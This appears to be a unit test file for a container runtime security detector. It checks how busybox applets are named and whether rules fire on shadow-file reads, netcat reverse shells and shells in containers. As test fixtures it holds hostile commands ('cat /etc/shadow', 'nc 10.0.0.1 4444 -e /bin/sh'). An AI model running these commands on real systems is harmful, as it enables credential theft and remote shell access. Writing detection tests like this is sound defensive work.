"""Multi-call binaries: a busybox applet counts as the program it was asked to be."""

from __future__ import annotations

import pytest

from roxd.model import Ancestor, Container, EnrichedEvent, ExecEvent, Process
from roxd.rules.fields import program_name
from roxd.rules.loader import load_rule_set
from tests.conftest import REPO

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(("exe", "args", "name"), [
    ("/bin/cat", ("cat", "/etc/shadow"), "cat"),
    ("/bin/busybox", ("cat", "/etc/shadow"), "cat"),
    ("/bin/busybox", ("/bin/cat", "/etc/shadow"), "cat"),
    ("/bin/busybox", ("busybox", "nc", "-e", "/bin/sh"), "nc"),
    ("/bin/busybox", ("busybox",), "busybox"),
    ("/proc/self/exe", ("sleep", "1"), "sleep"),
    ("/usr/bin/toybox", ("ls",), "ls"),
    ("/usr/bin/python3", ("python3", "-c", "x"), "python3"),
])
def test_program_name(exe: str, args: tuple[str, ...], name: str) -> None:
    assert program_name(exe, args) == name


def _exec(exe: str, args: tuple[str, ...], parent: Ancestor) -> EnrichedEvent:
    event = ExecEvent(time_ns=1, pid=10, ppid=9, uid=0, gid=0, cgroup_id=5, comm="exe",
                      filename="/proc/self/exe", args=args, args_truncated=False)
    process = Process(pid=10, ppid=9, uid=0, exe=exe, comm="exe", args=args, cgroup_id=5,
                      ancestors=(parent,))
    container = Container(id="c" * 64, runtime="docker", name="web", image="busybox:1.36")
    return EnrichedEvent(event, container, process)


def test_busybox_applets_match_shipped_rules() -> None:
    rules = load_rule_set([REPO / "rules"])
    shell = Ancestor(pid=9, exe="/bin/busybox", args=("sh", "-c", "x"))
    hits = {m.rule.id for m in rules.match(_exec("/bin/busybox", ("cat", "/etc/shadow"), shell))}
    assert "privilege_escalation.read-shadow" in hits
    hits = {m.rule.id for m in rules.match(
        _exec("/bin/busybox", ("nc", "10.0.0.1", "4444", "-e", "/bin/sh"), shell))}
    assert "foothold.netcat-exec" in hits


@pytest.mark.parametrize(("vpid", "alerted"), [(1, False), (7, True), (None, True)])
def test_container_entrypoint_shell_is_not_a_foothold(vpid: int | None, alerted: bool) -> None:
    from dataclasses import replace

    rules = load_rule_set([REPO / "rules"])
    app = Ancestor(pid=9, exe="/usr/bin/python3", args=("python3", "app.py"))
    event = _exec("/bin/busybox", ("sh", "-c", "sleep 3600"), app)
    event = replace(event, process=replace(event.process, vpid=vpid))
    hits = {m.rule.id for m in rules.match(event)}
    assert ("foothold.shell-in-container" in hits) is alerted
